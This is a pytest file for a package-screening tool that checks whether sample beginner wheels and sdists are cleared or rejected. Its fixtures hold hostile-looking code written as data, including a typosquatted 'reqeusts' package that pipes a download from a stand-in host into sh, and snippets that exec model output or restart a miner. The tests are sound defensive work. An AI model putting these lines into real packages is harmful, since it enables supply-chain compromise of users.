"""First packages of honest people pass, however little they say about themselves: hints hold nothing by themselves."""

from __future__ import annotations

import io
import zipfile

import pytest

from bonded.checks.context import Context, Publisher
from bonded.checks.registry import built_in
from bonded.facts.model import Facts
from bonded.facts.read import read
from bonded.screening.name_lists import NameLists
from bonded.screening.policy import Policy, decide
from bonded.values.finding import Finding
from bonded.values.names import normalize
from bonded.values.states import Verdict
from tests.facts.programs import sdist_of

HELLO = "def say_hello(name):\n    print(f'Hello, {name}!')\n"
GAME = "import random\n\n\ndef guess():\n    return random.randint(1, 6)\n\n\ndef play():\n    print(guess())\n"
NOTES = "import json\nimport os\nimport sys\n\n\ndef load(path):\n    with open(path) as notes:\n        return json.load(notes)\n"
FETCH = "import requests\n\n\ndef weather(city):\n    return requests.get('https://example.invalid/' + city).json()\n"
TEMPLATE = "Summary: A small example package\nAuthor: Your Name\nAuthor-email: you@example.com\n"
STUDENT = "Summary: My first Python package\nAuthor: Ann\n"
OWN = FETCH.replace("example.invalid", "not_a_name.herokuapp.com")
KEYS = "from pynput import keyboard\n\n\ndef wait(key, action):\n    keyboard.GlobalHotKeys({key: action}).start()\n"
AGENT = (
    "import platform\nimport subprocess\n\nimport requests\n\nAGENT = f'sample/1.0 ({platform.platform()})'\n\n\ndef ask(path):\n"
    "    key = subprocess.check_output(['gcloud', 'auth', 'print-access-token'], text=True).strip()\n"
    "    headers = {'Authorization': key, 'User-Agent': AGENT}\n"
    "    return requests.get('https://example.invalid/' + path, headers=headers).json()\n"
)
TIDY = "from pathlib import Path\n\n\ndef tidy():\n    for one in Path.home().rglob('*.pyc'):\n        one.unlink()\n"
BOT = (
    "import os\n\nimport telebot\n\nbot = telebot.TeleBot(os.environ['BOT_TOKEN'])\n\n\n@bot.message_handler()\n"
    "def echo(message):\n    bot.send_message(message.chat.id, message.text)\n"
)
OBEYS = "import os\n\n\ndef obey(words):\n    if 'switch off' in words:\n        os.system('shutdown /s /t 5')\n"
MISSING = (
    "import subprocess\nimport sys\n\n\ndef install(name):\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', name])\n\n\n"
    "try:\n    import numpy\nexcept ImportError:\n    install('numpy')\n    import numpy\n"
)
OVER = (
    "import socket\n\nimport requests\n\n\ndef tell(token, chat):\n    text = 'over on ' + socket.gethostname()\n"
    "    requests.post(f'https://api.telegram.org/bot{token}/sendMessage', json={'chat_id': chat, 'text': text})\n"
)
VAULT = (
    "from pathlib import Path\n\nfrom cryptography.fernet import Fernet\n\nVAULT = Path.home() / '.ann' / 'vault'\n\n\n"
    "def change(old, new):\n    VAULT.write_bytes(Fernet(new).encrypt(Fernet(old).decrypt(VAULT.read_bytes())))\n"
)
MODEL = (
    "import os\n\nimport requests\n\n\ndef solve(question):\n    key = os.environ['OPENAI_API_KEY']\n    found = requests.post(\n"
    "        'https://api.openai.com/v1/chat/completions', headers={'Authorization': key}, json={'q': question}\n    )\n"
    "    exec(found.json()['choices'][0]['message']['content'])\n"
)
RUST = "import os\n\n\ndef rust():\n    os.system('curl -sSf https://sh.rustup.rs | sh -s -- -y')\n"
MINERS = "import subprocess\n\n\ndef again(host):\n    subprocess.call(['ssh', host, 'sudo systemctl restart xmrig'])\n"
NAMES = (
    "import struct\nimport urllib.request\nfrom base64 import urlsafe_b64encode\n\n\ndef ask(name):\n"
    "    query = b''.join(bytes([len(one)]) + one.encode() for one in name.split('.')) + struct.pack('!HH', 1, 1)\n"
    "    urllib.request.urlopen('https://example.invalid/dns-query?dns=' + urlsafe_b64encode(query).decode())\n"
)
SECURITY = "Summary: A framework for security testing of web services\nAuthor: Ann\n"
NEWCOMERS = {
    "bot of one's own": ("ann-bot", "0.1", STUDENT, BOT),
    "assistant that obeys": ("ann-obeys", "0.1", STUDENT, OBEYS),
    "installs what is missing": ("ann-lab", "0.1", STUDENT, MISSING),
    "tells that a run is over": ("ann-over", "0.1", STUDENT, OVER),
    "vault": ("ann-vault", "0.1", STUDENT, VAULT),
    "asks a model": ("ann-model", "0.1", STUDENT, MODEL),
    "installs a tool": ("ann-rust", "0.1", STUDENT, RUST),
    "watches miners": ("ann-miners", "0.1", STUDENT, MINERS),
    "asks for names": ("ann-names", "0.1", STUDENT, NAMES),
    "tool of the trade": ("ann-headers", "0.1", SECURITY, HELLO * 40),
    "key and agent": ("ann-cloud", "0.1", STUDENT, AGENT),
    "tidies up": ("ann-tidy", "0.1", STUDENT, TIDY),
    "hello": ("ann-hello", "0.0.1", "", HELLO),
    "nothing said": ("dicegame", "0.1", "", GAME),
    "template": ("example-package-ann", "0.0.1", TEMPLATE, HELLO),
    "student": ("notekeeper", "1.0", STUDENT, NOTES),
    "named like a popular one": ("colorana", "0.1", STUDENT, HELLO),
    "named with a promise": ("requests-fast", "0.1", STUDENT, FETCH),
    "course": ("course-week-3", "99", "Summary: test\n", HELLO * 200),
    "client of a service of one's own": ("ann-weather", "0.1", STUDENT, OWN),
    "hot keys": ("ann-keys", "0.1", TEMPLATE, KEYS),
    "plugin": ("flask-dice", "0.1", "Summary: Dice for Flask\nRequires-Dist: flask\n", GAME),
    "shadows": ("my-tools", "0.1", STUDENT, HELLO),
    "calver": ("dice-game", "2026.1", STUDENT, GAME),
}


def wheel(name: str, version: str, head: str, code: str) -> tuple[io.BytesIO, str]:
    module = name.replace("-", "_")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(f"{module}/__init__.py", code)
        text = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{head}\n"
        archive.writestr(f"{module}-{version}.dist-info/METADATA", text)
    buffer.seek(0)
    return buffer, f"{module}-{version}-py3-none-any.whl"


def found(facts: Facts, context: Context | None) -> list[Finding]:
    able = [one for one in built_in() if context is not None or not one.needs_context]
    return [finding for one in able for finding in one.run(facts, context)]


@pytest.mark.parametrize("who", NEWCOMERS)
def test_on_the_line(who: str) -> None:
    name, version, head, code = NEWCOMERS[who]
    decision = decide(found(read(*wheel(name, version, head, code)), None), Policy())
    assert decision.verdict is Verdict.CLEAR, decision.terms


@pytest.mark.parametrize("who", [one for one in NEWCOMERS if one != "named like a popular one"])
def test_as_a_new_project_of_a_new_person(who: str) -> None:
    name, version, head, code = NEWCOMERS[who]
    near = NameLists().nearest(normalize(name))
    context = Context(name, new_project=True, uploader="x", nearest=near, publisher=Publisher(0, None, 3))
    decision = decide(found(read(*wheel(name, version, head, code)), context), Policy())
    assert decision.verdict is Verdict.CLEAR, decision.terms


FETCHED = (
    "import hashlib\nimport urllib.request\n\nfrom setuptools import setup\n\nWANTED = "
    "'2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824'\n"
    "body = urllib.request.urlopen('https://example.invalid/sample-1.0.tar.gz').read()\n"
    "if hashlib.sha256(body).hexdigest() != WANTED:\n    raise SystemExit('not what was released')\nsetup(name='ann-native')\n"
)
UPDATES = (
    "import requests\nfrom setuptools import Command, setup\n\n\nclass Update(Command):\n    user_options = []\n\n    def run(self):\n"
    "        requests.get('https://example.invalid/table.txt')\n\n\nsetup(name='ann-native', cmdclass={'update': Update})\n"
)
MACHINE = (
    "import os\nimport platform\n\nfrom setuptools import setup\n\n"
    "os.system('curl -O https://example.invalid/' + platform.uname().machine)\nsetup(name='ann-native')\n"
)


SAID = (
    "Metadata-Version: 2.1\nName: ann-native\nVersion: 0.1\nSummary: Bindings for a library\nAuthor: Ann\n"
    "Home-page: https://example.invalid/ann\n\nBindings for a library that packs tables of numbers into little room.\n"
)


@pytest.mark.parametrize("program", [FETCHED, UPDATES])
def test_a_program_that_builds(program: str) -> None:
    facts = sdist_of({"setup.py": program, "PKG-INFO": SAID})
    assert decide(found(facts, None), Policy()).verdict is Verdict.CLEAR


def test_the_kind_of_a_machine_is_not_its_name() -> None:
    said = [one.message for one in found(sdist_of({"setup.py": MACHINE}), None)]
    assert said == ["the network is reached at install time"]


def test_the_same_name_with_a_claim_and_a_deed_does_not_pass() -> None:
    """The other side: what is a hint in a newcomer counts beside what an archive does."""
    head = "Summary: Python HTTP for Humans.\nHome-page: https://github.com/psf/requests\n"
    code = "import os\n\nos.system('curl https://example.invalid/x | sh')\n"
    decision = decide(found(read(*wheel("reqeusts", "2.31.0", head, code)), None), Policy())
    assert decision.verdict is Verdict.REJECT
    assert any(words.startswith("name-deception") for words, _ in decision.terms)
